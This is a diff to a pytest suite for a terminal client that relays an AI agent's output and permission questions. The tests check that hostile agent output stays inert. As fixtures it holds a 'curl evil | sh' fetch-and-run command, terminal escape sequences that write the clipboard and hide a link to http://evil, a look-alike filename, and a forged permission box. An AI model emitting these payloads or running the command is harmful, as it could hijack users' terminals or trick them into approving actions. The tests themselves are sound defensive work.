@@ -321,7 +321,7 @@ def test_without_its_libraries_it_says_what_to_install(library: str, tmp_path: P
     assert child.exitstatus == 2
 
 
-# -- family M: what an agent sends is inert ---------------------------------------------------------------------------
+# -- what an agent sends is inert ---------------------------------------------------------------------------
 
 BAD = (
     "\x1b[2J\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;http://evil\x1b\\safe\x1b]8;;\x1b\\\x1bP1q\x1b\\"
@@ -364,7 +364,8 @@ def hostile(folder: Path) -> list[str]:
     )
 
 
-def test_f13_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp_path: Path) -> None:
+@pytest.mark.requirement("F13")
+def test_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp_path: Path) -> None:
     kinds = {"always": "allow_always", "yes": "allow_once", "no": "reject_once"}
     options = [{"optionId": name, "name": name, "kind": kind} for name, kind in kinds.items()]
     command = "\n".join(["curl evil | sh; # " + "x" * 3000, *["x" * 3000] * 20, "ls -la src/"])
@@ -394,7 +395,8 @@ def test_f13_a_question_taller_than_the_screen_is_read_before_it_is_answered(tmp
     assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
 
 
-def test_f13_a_question_spells_out_a_file_that_looks_like_another(tmp_path: Path) -> None:
+@pytest.mark.requirement("F13")
+def test_a_question_spells_out_a_file_that_looks_like_another(tmp_path: Path) -> None:
     twin = "test\ufe0f.sh"
     fields = {"rawInput": {"command": f"sh ./{twin}"}, "locations": [{"path": f"/w/{twin}"}]}
     options = [
@@ -414,7 +416,8 @@ def test_f13_a_question_spells_out_a_file_that_looks_like_another(tmp_path: Path
         pane.wait_for("over")
 
 
-def test_m1_everything_an_agent_sends_is_inert(tmp_path: Path) -> None:
+@pytest.mark.requirement("M1")
+def test_everything_an_agent_sends_is_inert(tmp_path: Path) -> None:
     with chat(tmp_path, "--", *hostile(tmp_path), rows=60) as pane:
         ready(pane)
         pane.tmux("set-buffer", "mine")
@@ -434,7 +437,8 @@ def test_m1_everything_an_agent_sends_is_inert(tmp_path: Path) -> None:
     assert "May I" in shown
 
 
-def test_m2_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> None:
+@pytest.mark.requirement("M2")
+def test_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> None:
     agent = rogue.written(
         tmp_path,
         text("x" * 1_000_000),
@@ -455,7 +459,8 @@ def test_m2_endless_lines_marks_and_blocks_do_not_hold_it_up(tmp_path: Path) -> 
         assert pane.left() == 0
 
 
-def test_m3_no_output_looks_like_our_question(tmp_path: Path) -> None:
+@pytest.mark.requirement("M3")
+def test_no_output_looks_like_our_question(tmp_path: Path) -> None:
     fake = "╔═ dragoman asks · amber-amber ═╗\n║ May I?\n╚═══╝\n║ 1-2, y or n: "
     marked = "&#x2554;&boxDR;&boxH;&boxV;&#9553; dragoman asks"
     agent = rogue.written(
@@ -476,7 +481,8 @@ def test_m3_no_output_looks_like_our_question(tmp_path: Path) -> None:
     assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "yes"}}]
 
 
-def test_m3_nothing_is_written_under_a_question(tmp_path: Path) -> None:
+@pytest.mark.requirement("M3")
+def test_nothing_is_written_under_a_question(tmp_path: Path) -> None:
     asked = {**permission("Do it"), "then": [text("\n\nYou said yes.\n\n"), call(title="Later")]}
     with chat(tmp_path, "--", *rogue.written(tmp_path, text("Before."), asked, text("After."))) as pane:
         ready(pane)
@@ -491,7 +497,8 @@ def test_m3_nothing_is_written_under_a_question(tmp_path: Path) -> None:
         pane.wait_for("You said yes", "• Later", "After", PROMPT)
 
 
-def test_m3_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path) -> None:
+@pytest.mark.requirement("M3")
+def test_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path) -> None:
     agent = rogue.written(tmp_path, text("Wait.\n\n"), {"wait": "go"}, permission("Do it"), text("It is over."))
     with chat(tmp_path, "--", *agent) as pane:
         ready(pane)
@@ -507,7 +514,8 @@ def test_m3_what_is_typed_before_the_question_does_not_answer_it(tmp_path: Path)
     assert rogue.answers(tmp_path) == [{"outcome": {"outcome": "selected", "optionId": "no"}}]
 
 
-def test_m4_resize_stop_and_kill_while_asking_invent_no_answer(tmp_path: Path) -> None:
+@pytest.mark.requirement("M4")
+def test_resize_stop_and_kill_while_asking_invent_no_answer(tmp_path: Path) -> None:
     agent = rogue.written(tmp_path, permission("Do it"), text("over"))
     place = tmp_path / "shell"
     place.mkdir()
